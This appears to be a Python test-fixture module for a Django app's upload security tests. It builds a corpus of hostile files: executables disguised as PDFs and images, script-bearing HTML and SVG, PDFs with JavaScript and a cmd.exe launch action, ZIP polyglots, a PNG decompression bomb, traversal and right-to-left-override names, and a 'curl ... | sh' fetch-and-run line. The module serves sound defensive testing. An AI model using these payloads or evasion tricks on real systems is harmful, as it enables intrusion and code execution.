"""Hostile upload bodies, built in memory. Every entry must be refused by every upload
endpoint (tests/security/test_upload_abuse.py).

Names that attack the file system or the reader (path traversal, right-to-left override)
travel with hostile content, as they do in the wild. A hostile name on a valid file
(`hostile_names()`) is a separate case: Django's multipart parser keeps only the last path
component and drops non-printable characters before any of our code runs, so over HTTP such
a name arrives harmless; `store_upload` keeps it only as a cleaned display name and stores
the file under a random key."""

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from tests.files import ELF_HEADER, jpeg_bytes, pdf_bytes, png_bytes

LIMIT = 10 * 1024 * 1024


@dataclass(frozen=True)
class Sample:
    key: str
    name: str
    content: bytes
    content_type: str = "application/octet-stream"


def _pdf(build) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    build(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _open_action_js(writer):
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('pwned')"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)


def _hex_escaped_js() -> bytes:
    """/OpenAction JavaScript with the names written in PDF #hex escapes (/J#61vaScript
    reads /JavaScript to every PDF reader, but not to a byte search)."""
    body = _pdf(_open_action_js)
    start = body.index(b"<<\n/S /JavaScript")
    end = body.index(b">>", start) + 2
    hidden = b"<<\n/S /J#61vaScript\n/J#53 (app.alert(1))"
    # Padded to the same length, so the xref offsets still hold.
    hidden += b" " * (end - start - len(hidden) - 2) + b">>"
    return body[:start] + hidden + body[end:]


def _names_js(writer):
    """Document-level JavaScript in the /Names tree (what add_js used to write)."""
    action = writer._add_object(
        DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert(1)"),
            }
        )
    )
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("init"), action])})
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)}
    )


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_bomb(width=100_000, height=100_000) -> bytes:
    """A few hundred bytes that claim ten billion pixels."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    rows = zlib.compress(b"\x00" * 4096, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", rows)
        + _png_chunk(b"IEND", b"")
    )


def zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n")
        archive.writestr("Evil.class", b"\xca\xfe\xba\xbe" + b"\x00" * 64)
        archive.writestr("index.html", "<script>alert(document.domain)</script>")
    return buffer.getvalue()


def oversized_pdf() -> bytes:
    """A well-formed PDF of exactly 10 MB + 1 byte."""
    body = pdf_bytes()
    trailer = body[body.rindex(b"startxref") :]
    padding = LIMIT + 1 - len(body) - len(trailer) - 2
    return body + b"%" + b"x" * padding + b"\n" + trailer


HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.domain)</script></svg>"
)
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 44
    + (b"\x80\x00\x00\x00" + b"\x00" * 64 + b"PE\x00\x00\x4c\x01")
    + b"\x00" * 200
)
SCRIPT = b"#!/bin/sh\ncurl http://203.0.113.1/x | sh\n"


def corpus() -> list[Sample]:
    pdf, png, jpeg = pdf_bytes(), png_bytes(), jpeg_bytes()
    return [
        Sample("exe-as-pdf", "invoice.pdf", PE, "application/pdf"),
        Sample("elf-as-png", "photo.png", ELF_HEADER, "image/png"),
        Sample("exe-as-jpg", "photo.jpg", PE, "image/jpeg"),
        Sample("shell-script-as-pdf", "licence.pdf", SCRIPT, "application/pdf"),
        Sample("html-with-script", "licence.html", HTML, "text/html"),
        Sample("html-as-pdf", "licence.pdf", HTML, "application/pdf"),
        Sample("svg-with-script", "logo.svg", SVG, "image/svg+xml"),
        Sample("svg-as-png", "logo.png", SVG, "image/png"),
        Sample("pdf-javascript-names", "report.pdf", _pdf(_names_js), "application/pdf"),
        Sample("pdf-openaction-js", "report.pdf", _pdf(_open_action_js), "application/pdf"),
        Sample("pdf-openaction-js-hex-names", "report.pdf", _hex_escaped_js(), "application/pdf"),
        Sample(
            "pdf-launch-action",
            "report.pdf",
            pdf.replace(
                b"/Type /Page\n", b"/Type /Page\n/AA << /O << /S /Launch /F (cmd.exe) >> >>\n"
            ),
            "application/pdf",
        ),
        Sample("pdf-truncated", "licence.pdf", pdf[: len(pdf) // 2], "application/pdf"),
        Sample("pdf-header-then-html", "licence.pdf", b"%PDF-1.7\n" + HTML, "application/pdf"),
        Sample("pdf-then-html", "licence.pdf", pdf + HTML, "application/pdf"),
        Sample("pdf-then-zip", "licence.pdf", pdf + zip_bytes(), "application/pdf"),
        Sample("png-then-zip-gifar", "photo.png", png + zip_bytes(), "image/png"),
        Sample("png-then-html", "photo.png", png + HTML, "image/png"),
        Sample("jpeg-then-zip-gifar", "photo.jpg", jpeg + zip_bytes(), "image/jpeg"),
        Sample("zip-then-png", "photo.png", zip_bytes() + png, "image/png"),
        Sample("png-decompression-bomb", "huge.png", png_bomb(), "image/png"),
        Sample("png-truncated", "photo.png", png[:40], "image/png"),
        Sample("pdf-10mb-plus-one-byte", "big.pdf", oversized_pdf(), "application/pdf"),
        Sample("zero-bytes", "empty.pdf", b"", "application/pdf"),
        Sample("rtl-override-name", "invoice\u202efdp.exe", PE, "application/pdf"),
        Sample("path-traversal-name", "../../etc/passwd.pdf", SCRIPT, "application/pdf"),
        Sample("windows-traversal-name", "..\\..\\boot.ini.pdf", HTML, "application/pdf"),
        Sample("unicode-name-html", "营业执照\u200b.pdf", HTML, "application/pdf"),
        Sample("rtl-override-name-png-zip", "photo\u202egnp.jar", png + zip_bytes(), "image/png"),
    ]


def hostile_names() -> list[Sample]:
    """A valid PDF under names that disguise it. Django's multipart parser drops
    non-printable characters and path components before any view runs, so over HTTP these
    arrive harmless; store_upload cleans the display name for any other caller."""
    pdf = pdf_bytes()
    return [
        Sample("rtl-override-name-valid-pdf", "licence\u202efdp.exe", pdf, "application/pdf"),
        Sample("isolate-override-name", "licence\u2067fdp.exe", pdf, "application/pdf"),
        Sample("control-chars-in-name", "lic\x00ence\r\n.pdf", pdf, "application/pdf"),
    ]
